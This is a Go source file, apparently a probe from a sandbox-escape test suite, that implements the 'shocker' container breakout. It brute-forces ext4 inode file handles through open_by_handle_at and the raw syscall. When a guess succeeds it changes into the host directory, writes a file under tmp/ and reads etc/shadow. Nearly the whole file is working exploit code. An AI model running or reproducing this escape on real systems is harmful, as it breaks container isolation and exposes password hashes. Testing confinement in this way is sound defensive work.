package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Opens the machine's files by their handles, guessed (shocker).
func attack(where string) {
	if where == "host" {
		nested("nested")
	}
	for _, path := range []string{"/", "/usr", "/usr/bin", "/tmp", "/etc/alternatives"} {
		mount, err := unix.Open(path, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, path, 0)
		tried("handle of "+path, err)
		if err == nil {
			fd, err := unix.OpenByHandleAt(mount, handle, unix.O_RDONLY)
			tried("open "+path+" by handle", err)
			leave(fd, err)
		}
		for inode := uint32(1); inode < 4; inode++ { // 2 is the root of ext4
			var h [8]byte
			binary.LittleEndian.PutUint32(h[:], inode)
			for _, kind := range []int32{1, 2, 0x81} {
				guess := unix.NewFileHandle(kind, h[:])
				fd, err := unix.OpenByHandleAt(mount, guess, unix.O_RDONLY|unix.O_DIRECTORY)
				tried(fmt.Sprint("open inode ", inode), err)
				leave(fd, err)
				call("open inode by the raw call", unix.SYS_OPEN_BY_HANDLE_AT|1<<32, uintptr(mount), uintptr(unsafe.Pointer(&h[0])), 0)
			}
		}
	}
}

func leave(fd int, err error) {
	if err != nil {
		return
	}
	unix.Fchdir(fd)
	os.WriteFile("tmp/"+evil, []byte(evil), 0o666)
	data, _ := os.ReadFile("etc/shadow")
	say("ok", fmt.Sprint("got out and read ", len(data), " bytes of etc/shadow"))
}
